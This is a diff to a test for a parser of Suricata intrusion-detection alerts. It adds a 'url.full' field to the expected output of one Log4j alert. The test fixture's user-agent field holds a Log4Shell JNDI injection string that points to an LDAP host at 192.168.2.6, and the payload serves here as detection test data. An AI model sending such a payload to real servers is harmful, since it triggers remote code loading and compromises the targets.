@@ -112,7 +112,7 @@ describe.skipIf(!present)('parseEve on real Suricata 7.0.10 output', () => {
 'source.ip': '192.168.2.6', 'source.port': 38782, 'destination.ip': '192.168.2.5',
       'destination.port': 8080, 'network.transport': 'tcp', 'network.protocol': 'http', 'rule.category': 'Attempted Administrator Privilege Gain',
       'threat.technique.id': ['T1190'], 'url.original': '/Log4j-2.14.0-SNAPSHOT/api', 'url.path': '/Log4j-2.14.0-SNAPSHOT/api',
-      'url.domain': '192.168.2.5', 'http.request.method': 'GET', 'http.response.status_code': 200,
+      'url.domain': '192.168.2.5', 'url.full': 'http://192.168.2.5:8080/Log4j-2.14.0-SNAPSHOT/api', 'http.request.method': 'GET', 'http.response.status_code': 200,
       'user_agent.original': '${jndi:ldap://192.168.2.6:1389/o=reference}',
     });
     expect(first.raw['flow_id']).toBe(1323812402626059);
